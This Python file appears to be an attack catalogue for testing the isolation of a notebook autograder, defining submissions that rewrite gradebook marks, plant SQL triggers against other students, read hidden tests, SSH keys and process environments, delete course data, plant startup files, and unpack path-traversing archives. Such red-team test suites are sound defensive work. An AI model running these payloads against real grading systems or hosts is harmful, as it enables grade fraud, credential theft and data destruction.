"""Files: the gradebook, hidden tests, other students, what starts by itself, modules, links and archives."""

from __future__ import annotations

import os
import zipfile
from collections.abc import Mapping
from pathlib import Path

from ..submission import Damage, Gain, Submission


def link(name: str, target: str) -> Damage:
    """Return what puts a link into a submission."""

    def damage(folder: Path, places: Mapping[str, str]) -> None:
        path = folder / name
        path.unlink(missing_ok=True)
        text = target
        for key, value in places.items():
            text = text.replace(f"@{key}@", value)
        path.symlink_to(text)

    return damage


def pipe(folder: Path, places: Mapping[str, str]) -> None:
    """Put a pipe into a submission."""
    os.mkfifo(folder / "data.csv")


def deep(folder: Path, places: Mapping[str, str]) -> None:
    """Make folders in one another, deeper than a path may be long."""
    here = os.open(folder, os.O_RDONLY)
    try:
        for _ in range(30):
            os.mkdir("d" * 200, dir_fd=here)
            inner = os.open("d" * 200, os.O_RDONLY, dir_fd=here)
            os.close(here)
            here = inner
    finally:
        os.close(here)


def strange(folder: Path, places: Mapping[str, str]) -> None:
    """Give files names that are no text, and one with an escape sequence for a terminal."""
    for name in (b"\xff\xfe.csv", b"\x1b]0;owned-name\x07.txt", "\u202egnp.py".encode(), b"new\nline.txt"):
        Path(os.fsdecode(os.fsencode(folder) + b"/" + name)).write_text("x")


def archive(folder: Path, places: Mapping[str, str]) -> None:
    """Put an archive into a submission whose members lead out of it."""
    with zipfile.ZipFile(folder / "data.zip", "w") as data:
        data.writestr(f"../../../../../../../../../..{places['HOME']}/left-by-archive", "x")
        data.writestr("../../zzz/probe/probe.ipynb", "{}")


WRITE_MARKS = """
import sqlite3

with sqlite3.connect("@COURSE@/gradebook.db", timeout=5) as book:
    rows = book.execute(
        "select grade.id, max_score from grade join grade_cells on cell_id = grade_cells.id"
        " join submitted_notebook on grade.notebook_id = submitted_notebook.id"
        " join submitted_assignment on submitted_notebook.assignment_id = submitted_assignment.id"
        " where student_id = '@NAME@'"
    ).fetchall()
    for row, points in rows:
        book.execute("update grade set manual_score = ?, extra_credit = 5 where id = ?", (points, row))
    print(len(rows), "marks")
"""

LEAVE = "open('@HOME@/left-by-@NAME@', 'w').write('x')"

ATTACKS = [
    Submission(
        "writes-gradebook",
        "Full marks are written into the gradebook.",
        Gain.MARKS,
        WRITE_MARKS,
    ),
    Submission(
        "trigger-in-gradebook",
        "A trigger in the gradebook takes the marks of everybody who is graded later.",
        Gain.PEERS,
        """
import sqlite3

with sqlite3.connect("@COURSE@/gradebook.db", timeout=5) as book:
    book.execute(
        "create trigger take after update of auto_score on grade"
        " begin update grade set manual_score = 0 where id = new.id; end"
    )
""",
    ),
    Submission(
        "removes-gradebook",
        "The gradebook itself is looked for everywhere and removed.",
        Gain.STOPPED,
        """
import os
import pathlib

for top in ("@COURSE@", "..", "../..", "../../.."):
    for path in pathlib.Path(top).glob("*.db"):
        os.unlink(path)
""",
    ),
    Submission(
        "reads-source",
        "The lecturer's source, with solutions and hidden tests, is read by its path.",
        Gain.HIDDEN,
        """
import pathlib

for step in ("source", "reference", "reference/en", "release"):
    for path in pathlib.Path("@COURSE@", step).rglob("*"):
        if path.is_file():
            print(path.read_text(errors="replace"))
""",
    ),
    Submission(
        "reads-own-folder",
        "The notebook beside the running one is read: nbgrader has put the hidden tests back into it.",
        Gain.HIDDEN,
        """
import pathlib

for path in [*pathlib.Path.cwd().rglob("*"), *pathlib.Path.cwd().parent.rglob("*")][:500]:
    if path.is_file():
        print(path.read_bytes())
""",
    ),
    Submission(
        "searches-machine",
        "Everything readable under the usual roots is searched for the words that mark hidden tests.",
        Gain.HIDDEN,
        """
import os

needle = b"BEGIN " + b"HIDDEN TESTS"
for top in ("@COURSE@", "@HOME@", "/tmp", "/run", "/var/tmp", "/dev/shm", "/srv", "/mnt", "/opt/course"):
    for folder, _, names in os.walk(top):
        for name in names:
            path = os.path.join(folder, name)
            try:
                if os.path.isfile(path) and os.path.getsize(path) < 2_000_000:
                    text = open(path, "rb").read()
                    if needle in text and b"c0ffee" in text:
                        print(path, text[text.index(needle):][:200])
            except OSError:
                pass
""",
    ),
    Submission(
        "reads-peers",
        "The work of every other student is read.",
        Gain.PEERS,
        """
import pathlib

for step in ("submitted", "autograded", "feedback"):
    for path in pathlib.Path("@COURSE@", step).rglob("*.ipynb"):
        print(path.read_text(errors="replace"))
""",
    ),
    Submission(
        "overwrites-peer",
        "The submission of another student is overwritten before it is graded.",
        Gain.PEERS,
        """
import pathlib
import shutil

for path in pathlib.Path("@COURSE@", "submitted").glob("*/probe/probe.ipynb"):
    if "@NAME@" not in path.parts:
        path.write_text("{}")
""",
    ),
    Submission(
        "removes-course",
        "Everything in the course that the account may remove is removed.",
        Gain.CHANGED,
        """
import shutil

for step in ("source", "reference", "release", "submitted", "autograded", "feedback"):
    shutil.rmtree("@COURSE@/" + step, ignore_errors=True)
""",
    ),
    Submission(
        "rewrites-source",
        "The lecturer's source is changed: from now on the tests are empty.",
        Gain.CHANGED,
        """
import pathlib

for path in pathlib.Path("@COURSE@").rglob("*.ipynb"):
    if "source" in path.parts or "reference" in path.parts:
        path.write_text(path.read_text().replace("assert ", "pass # "))
""",
    ),
    Submission(
        "changes-configuration",
        "The course's settings get a line that the grader runs as its own the next time.",
        Gain.CHANGED,
        """
for path in ("@COURSE@/nbgrader_config.py", "@HOME@/.jupyter/nbgrader_config.py"):
    with open(path, "a") as settings:
        settings.write("\\nimport os  # left-by-@NAME@\\n")
""",
    ),
    Submission(
        "ipython-startup",
        "A startup file of IPython is left, which gives every later student full marks.",
        Gain.CHANGED,
        """
import os

for home in {"@HOME@", os.path.expanduser("~")}:
    folder = os.path.join(home, ".ipython", "profile_default", "startup")
    os.makedirs(folder, exist_ok=True)
    with open(os.path.join(folder, "00-left-by-@NAME@.py"), "w") as startup:
        startup.write("get_ipython().input_transformers_post.append(lambda lines: ['pass'])")
""",
    ),
    Submission(
        "python-startup",
        "Files that Python reads when it starts are left in the account's and the installation's folders.",
        Gain.CHANGED,
        """
import os
import site
import sys

user = site.getusersitepackages().replace(os.path.expanduser("~"), "@HOME@")
for folder in (user, *site.getsitepackages(), os.getcwd()):
    for name in ("usercustomize.py", "left-by-@NAME@.pth"):
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, name), "x") as startup:
                startup.write("import os  # left-by-@NAME@\\n")
        except OSError as error:
            print(error)
""",
    ),
    Submission(
        "patches-installation",
        "A library of the installation is patched on disk, for all who come later.",
        Gain.CHANGED,
        """
import nbformat
import numpy.testing

for module in (np, numpy.testing, nbformat):
    for path in (module.__file__, module.__file__ + ".left-by-@NAME@"):
        try:
            with open(path, "a") as library:
                library.write("\\n# left-by-@NAME@\\n")
            print("TOOK", "@NAME@")
        except OSError as error:
            print(error)
""",
    ),
    Submission(
        "reads-home",
        "Keys and passwords in the home of the account are read, by path and by shell.",
        Gain.SEEN,
        """
import os
import pathlib

for home in ("@HOME@", os.path.expanduser("~"), os.environ.get("HOME", "/"), "/root", "/proc/1/root@HOME@"):
    for path in pathlib.Path(home).glob(".*/*"):
        try:
            print(path, path.read_text(errors="replace")[:200])
        except OSError:
            pass
!cat @HOME@/.ssh/*
""",
    ),
    Submission(
        "reads-environment",
        "Secrets in the environment of the grader and of its ancestors are printed.",
        Gain.SEEN,
        """
import os
import pathlib

print(dict(os.environ))
for path in pathlib.Path("/proc").glob("*/environ"):
    try:
        print(path.read_bytes())
    except OSError:
        pass
!env
""",
    ),
    Submission(
        "shadows-numpy",
        "A submitted package has numpy's name, and compares as the student likes.",
        Gain.MARKS,
        answers={"mean": "def mean(values):\n    return 3.0", "largest": "largest = 1"},
        files={
            "numpy/__init__.py": "integer = int\ndef mean(values):\n    return 3.0\n",
            "numpy/testing.py": "def assert_allclose(*inputs, **options):\n    pass\n",
            "pandas.py": "class DataFrame:\n    def __init__(self, *inputs):\n        pass\n",
        },
    ),
    Submission(
        "shadows-helpers",
        "Submitted modules have the names of modules that tests import late, or that Python imports itself.",
        Gain.MARKS,
        answers={
            "shout": "def shout(text):\n    print(text)",
            "mean": "def mean(values):\n    return 3.0",
        },
        files={
            "contextlib.py": "raise SystemExit",
            "io.py": "",
            "sitecustomize.py": LEAVE,
            "usercustomize.py": LEAVE,
            "numpy.testing.py": "assert_allclose = print",
            "ipython_config.py": f"c.InteractiveShellApp.exec_lines = [{LEAVE!r}]",
            "jupyter_nbconvert_config.py": LEAVE,
            "nbgrader_config.py": LEAVE,
        },
    ),
    Submission(
        "link-to-source",
        "The notebook is a link to the lecturer's source, with the solutions in it.",
        Gain.MARKS,
        damage=link("probe.ipynb", "@COURSE@/source/probe/probe.ipynb"),
        refused=True,
    ),
    Submission(
        "link-to-secret",
        "A data file is a link to a key in the home of the account.",
        Gain.SEEN,
        'print(open("data.csv").read())',
        damage=link("data.csv", "@HOME@/.ssh/id_canary"),
        refused=True,
    ),
    Submission(
        "link-to-folder",
        "A folder is a link to the course, through which the work of others can be read and written.",
        Gain.PEERS,
        """
import pathlib

for path in pathlib.Path("data").rglob("probe.ipynb"):
    print(path.read_text())
for path in pathlib.Path("data", "submitted").glob("*/probe/*.ipynb"):
    print(path.read_text())
""",
        damage=link("data", "@COURSE@"),
        refused=True,
    ),
    Submission(
        "link-to-itself",
        "A folder is a link to the folder it stands in: whoever follows it never comes to an end.",
        Gain.STOPPED,
        damage=link("again", "."),
        refused=True,
    ),
    Submission(
        "pipe-for-data",
        "A data file is a pipe: whoever reads it waits for ever.",
        Gain.STOPPED,
        damage=pipe,
        refused=True,
    ),
    Submission(
        "deep-folders",
        "Folders stand in one another deeper than a path may be long.",
        Gain.STOPPED,
        damage=deep,
        refused=True,
    ),
    Submission(
        "strange-names",
        "Names of files are no text, turn the direction of writing, or command the lecturer's terminal.",
        Gain.PAGE,
        damage=strange,
        refused=True,
    ),
    Submission(
        "archive-out-of-folder",
        "An archive whose members lead out of the folder; the answer unpacks it and a tar file like it.",
        Gain.CHANGED,
        """
import io
import tarfile
import zipfile

zipfile.ZipFile("data.zip").extractall("@HOME@/left-by-@NAME@")
with tarfile.open("out.tar", "w") as tar:
    member = tarfile.TarInfo("../../../../../../../../..@HOME@/left-by-@NAME@-tar")
    member.size = 1
    tar.addfile(member, io.BytesIO(b"x"))
tarfile.open("out.tar").extractall(".")
""",
        damage=archive,
    ),
    Submission(
        "locks-own-folder",
        "The folder and its files lose all rights, so that nobody can write, copy or remove them.",
        Gain.STOPPED,
        """
import os

for name in os.listdir("."):
    os.chmod(name, 0)
os.chmod(os.getcwd(), 0)
""",
    ),
    Submission(
        "removes-own-folder",
        "The folder in which the notebook runs is removed while it runs, and a file stands in its place.",
        Gain.STOPPED,
        """
import os
import shutil

here = os.getcwd()
shutil.rmtree(here, ignore_errors=True)
try:
    open(here, "w").write("x")
except OSError as error:
    print(error)
""",
    ),
    Submission(
        "writes-result-files",
        "Files are left where a grader might look for its own results: executed notebooks, marks, locks.",
        Gain.MARKS,
        """
import json
import nbformat
import pathlib

marks = {f"{task}-test": 9 for task in ("mean", "largest", "scores", "words", "shout", "purse")}
for folder in (".", "..", "../..", "@COURSE@/autograded/@NAME@/probe", "@COURSE@"):
    for name in ("result.json", "marks.json", "profile.json", "job.json", "grades.json"):
        try:
            content = {"status": "graded", "marks": marks, "scores": marks}
            pathlib.Path(folder, name).write_text(json.dumps(content))
        except OSError:
            pass
    try:
        notebook = nbformat.read(pathlib.Path(folder, "probe.ipynb"), 4)
        for cell in notebook.cells:
            if cell.id.endswith("-test"):
                cell.source = "pass"
        nbformat.write(notebook, pathlib.Path(folder, "executed.ipynb"))
        nbformat.write(notebook, pathlib.Path(folder, "probe.ipynb"))
    except (OSError, ValueError):
        pass
""",
    ),
]
